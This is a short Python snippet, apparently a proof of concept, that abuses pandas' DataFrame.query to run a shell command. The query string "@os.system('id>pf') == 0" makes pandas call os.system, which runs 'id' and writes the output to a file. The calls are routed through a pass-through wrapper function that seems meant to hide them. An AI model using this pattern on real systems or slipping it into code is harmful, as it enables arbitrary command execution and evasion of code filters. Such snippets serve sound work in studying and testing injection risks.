def my_go(f, *a, **k):
    return f(*a, **k)
import pandas as pd, os
my_go(my_go(pd.DataFrame, {'a': [1]}).query, "@os.system('id>pf') == 0")
